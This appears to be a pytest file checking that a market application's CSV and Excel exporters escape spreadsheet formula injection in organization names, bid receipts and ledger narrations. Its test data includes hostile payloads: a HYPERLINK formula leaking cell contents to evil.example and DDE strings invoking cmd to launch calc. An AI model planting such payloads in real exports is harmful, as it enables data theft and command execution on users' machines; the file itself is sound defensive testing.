"""Spreadsheet formula injection (issue 9, finding 7): user text that a spreadsheet would
take for a formula reaches every CSV and Excel export as plain text; numbers stay numbers.

The helper itself, then each exporter: the qualified-organization catalog (CSV, Excel),
the published bid receipts (CSV) and Fava's query download (CSV) in the auditors' space.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from market.core.exports import csv_bytes, safe_cell, xlsx_bytes

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1"]


@pytest.mark.parametrize("text", EVIL)
def test_formula_like_text_is_escaped(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["昆山市阳光社工服务中心", "A=B", "", None, 0, -5,
                                   Decimal("-1200.50"), -3.5, True, dt.date(2026, 1, 1),
                                   "-1200.50", "+86", "3A"])  # "+86" is a number
def test_everything_else_is_left_as_it_is(value):
    assert safe_cell(value) == value


def test_csv_and_xlsx_writers():
    rows = [["name", "amount"], [EVIL[0], Decimal("-250000.00")], ["普通", -3]]
    back = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"))))
    assert back == [["name", "amount"], ["'" + EVIL[0], "-250000.00"], ["普通", "-3"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, "t"))).active
    assert sheet["A2"].value == "'" + EVIL[0] and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -250000 and sheet["B2"].data_type == "n"
    assert sheet["B3"].value == -3


def _formula_cells(sheet) -> list:
    return [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


NAME = '=HYPERLINK("http://evil.example","目录注入测试")'


def test_qualified_catalog_exports(app, demo, session, client):
    from market.clock import today_local
    from tests.factories import AnnualReportFactory, org_member as make_org

    for name in (NAME, "@目录注入测试二"):  # in good standing: last year's report accepted
        org, _ = make_org(session, grade=4, name=name)
        AnnualReportFactory(organization=org, year=today_local().year - 1)
    session.commit()
    response = client.get("/qualified-organizations.csv?q=目录注入测试")
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    names = {r[0] for r in rows[1:]}
    assert names == {"'" + NAME, "'@目录注入测试二"}
    book = load_workbook(io.BytesIO(client.get("/qualified-organizations.xlsx?q=目录注入测试")
                                    .get_data()))
    assert _formula_cells(book.active) == []
    assert {book.active.cell(row=r, column=1).value for r in (2, 3)} == names


def test_receipts_csv(app, demo, session, clock):
    from market.tenders import tender_services
    from tests.factories import new_tender as make_tender, org_member as make_org, place_bid as bid, user

    tender = make_tender(session, clock)
    _, a = make_org(session, "=1+2")
    _, b = make_org(session, "-1+2+cmd|x")
    bid(session, a, tender)
    bid(session, b, tender, price="240000.00")
    clock.travel(tender.opening_time + dt.timedelta(minutes=1))
    tender_services.open_bids(session, user(session, "dept"), tender.id)
    session.commit()
    body = app.test_client().get(f"/tenders/{tender.id}/receipts.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert {r[1] for r in rows[1:]} == {"'=1+2", "'-1+2+cmd|x"}


def test_favas_query_download(app, client, auth, demo, session):
    from ledger import operations
    from ledger.accounts import BudgetLine, Unit
    from market.clock import today_local

    # Narrations and names in the ledger come from what departments typed.
    line = BudgetLine(fy=2028, dept=Unit("WJW", "卫健委"), item=Unit("X9", "注入测试"))
    operations.appropriate(session, today_local(), line, Decimal("1000.00"),
                           narration='=HYPERLINK("http://evil.example","预算")')
    session.commit()
    auth.login("auditor")
    bfile = client.get("/audit/fava/").headers["Location"].split("/audit/fava/")[1].split("/")[0]
    query = quote("SELECT narration, number WHERE 'HYPERLINK' IN narration")
    response = client.get(f"/audit/fava/{bfile}/download-query/query_result.csv"
                          f"?query_string={query}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[1:] and all(r[0].startswith("'") for r in rows[1:])
    numbers = sorted(Decimal(r[1]) for r in rows[1:])  # negative amounts stay numbers
    assert numbers[0] < 0 < numbers[-1]
